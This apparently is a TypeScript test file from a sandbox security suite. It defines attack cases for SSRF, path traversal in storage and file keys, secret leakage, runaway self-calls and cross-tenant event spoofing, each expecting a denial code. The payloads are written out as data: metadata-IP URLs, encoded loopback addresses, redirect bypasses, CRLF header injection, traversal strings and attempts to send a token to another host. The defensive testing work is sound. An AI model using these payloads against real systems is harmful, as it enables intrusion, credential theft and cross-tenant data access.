// Classes 60 to 62, 65 and 66: through the capabilities of a real app. Its TLS server and its zone are the attacker's
// (support/hostile-server.ts); what another tenant and another session have of the same skill lies beside it.
import { type AttackClass, body, OK, source, type Variant } from './types.ts'

const hosts = ['api', 'other', 'meta', 'private', 'mapped', 'six', 'nat64', 'mixed', 'own'].map(
  (name) => `${name}.example.com`
)
// As wide as a tenant can grant, so that nothing is refused only because it was not asked for.
const network = {
  fetch: [...hosts, 'metadata.google.internal'].map((host) => ({
    host,
    methods: ['GET', 'POST']
  }))
}

/** What each of these requests came to: its code, or the text that it got. */
const tries = (name: string, requests: string, wanted: readonly string[], audited?: readonly string[]): Variant => ({
  ...body(
    name,
    `const got = []; for (const [url, init] of ${requests}) got.push(await ctx.fetch(url, init).then((r) => r.text(), (e) => e.code ?? e.name)); return got`,
    OK,
    wanted
  ),
  ...(audited ? { audited } : {})
})
const urls = (name: string, list: readonly string[], code = 'CAPABILITY_DENIED', audited = ['tool.denied']): Variant =>
  tries(
    name,
    JSON.stringify(list.map((url) => [url])),
    list.map(() => code),
    audited
  )
/** It is ended by its wall time, which it waits for. */
const short = (variant: Variant): Variant => ({ ...variant, limits: { wallMs: 900 } })
const at = (...paths: string[]) => paths.map((path) => `https://api.example.com${path}`)

const ssrf: AttackClass = {
  id: 60,
  title: 'SSRF',
  permissions: network,
  variants: [
    tries('what is allowed', '[["https://api.example.com/"]]', ['hello'], ['tool.fetched']),
    urls('addresses in every notation', [
      'https://127.0.0.1/',
      'https://0x7f.1/',
      'https://2130706433/',
      'https://0177.0.0.1/',
      'https://127.1/',
      'https://[::1]/',
      'https://[::ffff:127.0.0.1]/',
      'https://169.254.169.254/latest/meta-data/',
      'https://①②⑦.0.0.1/'
    ]),
    urls('names that mean this machine or its network', [
      'https://localhost/',
      'https://localhost./',
      'https://metadata.google.internal/',
      'https://own.example.com/'
    ]),
    urls('schemes, ports and userinfo', [
      'http://api.example.com/',
      'ftp://api.example.com/',
      'file:///etc/passwd',
      'data:text/plain,x',
      'https://api.example.com:8443/',
      'https://api.example.com@127.0.0.1/',
      'https://user:password@api.example.com/'
    ]),
    urls('names that point inside', [
      'https://meta.example.com/',
      'https://private.example.com/',
      'https://mapped.example.com/',
      'https://six.example.com/',
      'https://nat64.example.com/',
      'https://mixed.example.com/'
    ]),
    // Each request asks the zone once: the one that is answered with loopback goes there, the next one goes nowhere.
    body(
      'a zone that rebinds',
      'const got = new Set(); for (let i = 0; i < 6; i++) got.add(await ctx.fetch("https://other.example.com/").then((r) => r.text(), (e) => e.code)); return [...got].sort()',
      OK,
      ['CAPABILITY_DENIED', 'hello']
    ),
    urls(
      'redirects',
      at(
        '/redirect?to=https://169.254.169.254/',
        '/redirect?to=https://meta.example.com/',
        '/redirect?to=http://api.example.com/',
        '/redirect?to=https://evil.example.net/',
        '/redirect?to=//127.0.0.1/',
        `/redirect?to=${encodeURIComponent('/redirect?to=https://127.0.0.1/')}`
      )
    ),
    urls('redirects without end', at('/loop'), 'FETCH_FAILED', ['tool.fetched']),
    urls('a bomb of 64 MB in gzip', at('/bomb'), 'FETCH_TOO_LARGE', ['tool.fetched']),
    body(
      'headers that are not its own',
      `const ask = (headers) => ctx.fetch("https://api.example.com/echo", { headers }).then((r) => 'sent', (e) => 'refused');
       return [await ask({ host: "127.0.0.1" }), await ask([["x-a", "b\\r\\nhost: evil"]]), await ask({ connection: "upgrade", upgrade: "h2c" }), await ask({ "transfer-encoding": "chunked" }), await ask({ "x-\\u0000": "1" })]`,
      OK,
      ['refused', 'refused', 'refused', 'refused', 'refused']
    ),
    body(
      'methods that were not granted',
      'return Promise.all(["DELETE", "PUT", "CONNECT", "TRACE", "PURGE"].map((method) => ctx.fetch("https://api.example.com/", { method }).then(() => "sent", () => "refused")))',
      OK,
      ['refused', 'refused', 'refused', 'refused', 'refused']
    ),
    short(
      body('an answer that never ends', 'return ctx.fetch("https://api.example.com/endless").then((r) => r.text())', [
        'SANDBOX_TIMEOUT',
        'SKILL_ERROR'
      ])
    )
  ]
}

const climbing = `["../secret", "../../secret", "..%2fsecret", "%2e%2e/secret", "..\\\\secret", "/secret", "/etc/passwd", "./secret", "a/../secret", "secret\\u0000", "secret\\u200b", "ｓecret", "sеcret", "SECRET", "..\\u2215secret", "．．／secret", "C:\\\\secret", "con", \`\${input.other}/secret\`, \`../\${input.other}/secret\`, \`tenant:\${input.other}:secret\`]`

const paths: AttackClass = {
  id: 61,
  title: 'path tricks in keys and files',
  permissions: { storage: 'write', files: 'write' },
  variants: [
    {
      ...source(
        'keys of storage that reach for another tenant',
        // This tenant's own value is found under its own name and nowhere else: the neighbour's has the same key.
        `export const prepare = (input, ctx) => ctx.storage.set("secret", input.secret)
         export const run = async (input, ctx) => { await ctx.storage.delete("secret"); const got = []
           for (const key of [...${climbing}, "secret"]) { const found = await ctx.storage.get(key).catch(() => null); if (found) got.push([key, found.value]) }
           return got }`,
        OK,
        []
      ),
      prepare: true,
      audited: ['tool.storage_written']
    },
    {
      ...source(
        'prefixes and positions of lists',
        `export const prepare = (input, ctx) => ctx.storage.set("secret", input.secret)
         export const run = async (input, ctx) => { await ctx.storage.delete("secret"); const seen = new Set()
           for (const prefix of ["", "..", "/", "%", "_", "'", "s%", input.other]) for (const after of ["", "!", "'--"]) {
             const page = await ctx.storage.list({ prefix, after }).catch(() => ({ keys: [] })); for (const { key } of page.keys) seen.add(key) }
           return [...seen] }`,
        OK,
        []
      ),
      prepare: true
    },
    source(
      'what is written under a trick stands under its own name',
      `export const run = async (input, ctx) => { const got = []
         for (const key of ["../a", "%2e%2e/a", "/etc/passwd", "a/../b"]) { await ctx.storage.set(key, key); got.push((await ctx.storage.get(key)).value === key) }
         return [got, await ctx.storage.get("a"), await ctx.storage.get("b")] }`,
      OK,
      [[true, true, true, true], null, null]
    ),
    {
      ...source(
        'files of another session and another tenant',
        `export const prepare = (input, ctx) => ctx.files.write("secret", input.secret)
         export const run = async (input, ctx) => { const got = []
           for (const path of [...${climbing}, "secret"]) { const text = await ctx.files.read(path).catch(() => null); if (text !== null) got.push([path, text]) }
           return got }`,
        OK,
        []
      ),
      prepare: true,
      audited: ['tool.file_written']
    },
    source(
      'files that climb when they are written',
      `export const run = async (input, ctx) => { const codes = new Set()
         for (const path of ["../x", "..", ".", "/x", "a/../x", "a//b", "x\\u0000", "a\\\\..\\\\x", "C:x", "con.txt", "．．／x", "x\\u202etxt", "", "a/", " ", "a."]) codes.add(await ctx.files.write(path, "x").then(() => "written " + path, (e) => e.code ?? e.name))
         return [[...codes], (await ctx.files.list()).files.length] }`,
      OK,
      [['ARGUMENTS_INVALID'], 0]
    ),
    source(
      'names that are one file on some system',
      `export const run = async (input, ctx) => { await ctx.files.write("report.txt", "mine"); const codes = new Set()
         for (const path of ["REPORT.TXT", "report.txt\\u200b", "ｒeport.txt", "report.txt/a"]) codes.add(await ctx.files.write(path, "x").then(() => "written " + path, (e) => e.code))
         return [[...codes], await ctx.files.read("report.txt")] }`,
      OK,
      [['ARGUMENTS_INVALID'], 'mine']
    ),
    source(
      'keys and paths that are no text',
      `export const run = async (input, ctx) => { const codes = new Set()
         for (const odd of [null, 1, {}, [], { toString: () => "secret" }, "x".repeat(1e5), "\\ud800"]) for (const ask of [() => ctx.storage.get(odd), () => ctx.files.read(odd)]) codes.add(await (async () => ask())().then(() => "found", (e) => e instanceof Error))
         return [...codes].filter((one) => one !== true && one !== "found") }`,
      OK,
      []
    )
  ]
}

const withSecret = {
  fetch: [
    { host: 'api.example.com', methods: ['GET', 'POST'], secret: 'API_TOKEN' },
    { host: 'other.example.com', methods: ['GET'] }
  ],
  secrets: ['API_TOKEN'],
  storage: 'write',
  files: 'write',
  events: ['told.all']
}
const get = (path: string) => `await ctx.fetch("https://api.example.com${path}")`

const secrets: AttackClass = {
  id: 62,
  title: 'secrets that come back',
  permissions: withSecret,
  variants: [
    {
      ...body('a host that reflects them', `const r = ${get('/echo')}; return [await r.text(), [...r.headers]]`, OK),
      audited: ['tool.fetched']
    },
    body('in other encodings', `return (${get('/echo-encoded')}).text()`, OK),
    body('in the status text', `const r = ${get('/echo-status')}; return r.statusText`, ['OK', 'SKILL_ERROR']),
    body('in an address that it is sent on to', `const r = ${get('/echo-redirect')}; return [r.url, await r.text()]`, [
      'OK',
      'SKILL_ERROR'
    ]),
    body('thrown', `throw new Error(await (${get('/echo')}).text())`, ['SKILL_ERROR']),
    body(
      'logged',
      `console.log(await (${get('/echo')}).text()); ctx.log.error(await (${get('/echo-encoded')}).text()); return 1`,
      OK,
      1
    ),
    body(
      'kept and told',
      `const text = await (${get('/echo')}).text(); await ctx.storage.set("k", text); await ctx.files.write("f", text); await ctx.events.publish("told.all", { text }); return [(await ctx.storage.get("k")).value, await ctx.files.read("f")]`,
      OK
    ),
    body(
      'sent to another host',
      'return ctx.fetch("https://other.example.com/echo", { headers: { authorization: "{{secret.API_TOKEN}}" } }).then((r) => r.text(), (e) => e.code)',
      OK,
      'CAPABILITY_DENIED'
    ),
    body(
      'in the address, the body and the name of a header',
      `const ask = (...a) => ctx.fetch(...a).then((r) => r.text(), (e) => e.code)
       return [await ask("https://api.example.com/{{secret.API_TOKEN}}"), (await ask("https://api.example.com/", { method: "POST", body: "{{secret.API_TOKEN}}" })), await ask("https://api.example.com/", { headers: { "x-a": "{{secret.OTHER}}" } })]`,
      OK,
      ['ARGUMENTS_INVALID', 'hello', 'CAPABILITY_DENIED']
    ),
    body('by name only', 'return [ctx.secrets, JSON.stringify(ctx.secrets), Object.isFrozen(ctx.secrets)]', OK, [
      ['API_TOKEN'],
      '["API_TOKEN"]',
      true
    ])
  ]
}

const calls: AttackClass = {
  id: 65,
  title: 'skills that call themselves',
  permissions: { tools: ['$self.run'] },
  variants: [
    {
      ...body(
        'without end',
        'const depth = input.depth ?? 1; return ctx.tools.call("$self.run", { depth: depth + 1 }).catch((e) => [depth, e.code])',
        OK,
        [8, 'TOOL_DEPTH']
      ),
      audited: ['tool.called']
    },
    short(
      body(
        'two at each step',
        'const down = () => ctx.tools.call("$self.run", {}).catch((e) => e.code); return [...new Set((await Promise.all([down(), down()])).flat())].sort()',
        ['OK', 'SANDBOX_TIMEOUT', 'SANDBOX_HOST_CALLS']
      )
    ),
    short(
      body(
        'a thousand at once',
        'return (await Promise.allSettled(Array.from({ length: 1e3 }, () => ctx.tools.call("$self.run", {})))).length',
        ['SANDBOX_HOST_CALLS', 'SANDBOX_TIMEOUT']
      )
    ),
    body(
      'a loop at the bottom',
      'const depth = input.depth ?? 1; if (depth === 4) for (;;); return ctx.tools.call("$self.run", { depth: depth + 1 })',
      ['SKILL_ERROR', 'SANDBOX_TIMEOUT']
    ),
    body(
      'what was not granted, and what is nowhere',
      'const ask = (address) => ctx.tools.call(address, {}).catch((e) => [e.code, e.message.replace(address, "")]); const [a, b] = [await ask("honest.run"), await ask("nowhere.run")]; return [a[0], String(a) === String(b)]',
      OK,
      ['CAPABILITY_DENIED', true]
    ),
    body(
      'addresses that are no address',
      'const codes = new Set(); for (const address of ["", ".", "run", "$self.prepare", "$self.__proto__", "$self.constructor", "__proto__.run", "$self.run.run", "x".repeat(1e4)]) codes.add(await ctx.tools.call(address, {}).then(() => "ran", (e) => e.code)); return [...codes].filter((code) => !["CAPABILITY_DENIED", "ARGUMENTS_INVALID"].includes(code))',
      OK,
      []
    )
  ]
}

const events: AttackClass = {
  id: 66,
  title: "events under another tenant's id",
  permissions: { events: ['told.all', 'session.completed'] },
  variants: [
    {
      ...body(
        'in the data',
        'return ctx.events.publish("told.all", { tenantId: input.other, tenant_id: input.other, sessionId: "00000000-0000-7000-8000-000000000000", skill: "@agentos/core", stream: "platform" })',
        OK
      ),
      audited: ['tool.event_published']
    },
    body(
      'a name of the platform',
      'return ctx.events.publish("session.completed", { sessionId: input.session }).then((r) => r.event.startsWith("custom.attack."))',
      OK,
      true
    ),
    {
      ...body(
        'names that were not granted',
        'const codes = new Set(); for (const type of ["skill.installed", "custom.other.skill.told.all", "told", "told.all.more", "TOLD.ALL", "../told.all", "told.all\\u0000", "__proto__", ""]) codes.add(await ctx.events.publish(type, {}).then(() => "sent", (e) => e.code)); return [...codes].filter((code) => !["CAPABILITY_DENIED", "ARGUMENTS_INVALID"].includes(code))',
        OK,
        []
      ),
      audited: ['tool.denied']
    },
    body(
      'more arguments than it takes: they do not reach the host',
      'return ctx.events.publish("told.all", {}, input.other).then(() => "sent", (e) => e.code)',
      OK,
      'sent'
    ),
    body(
      '100 KiB',
      'return ctx.events.publish("told.all", { text: "x".repeat(1e5) }).catch((e) => e.code)',
      OK,
      'EVENTS_TOO_LARGE'
    ),
    body(
      'a flood',
      'let sent = 0; try { for (;;) { await ctx.events.publish("told.all", { sent }); sent++ } } catch (e) { return e.code }',
      ['OK', 'SANDBOX_HOST_CALLS', 'SANDBOX_TIMEOUT']
    )
  ]
}

export const capabilities: AttackClass[] = [ssrf, paths, secrets, calls, events]
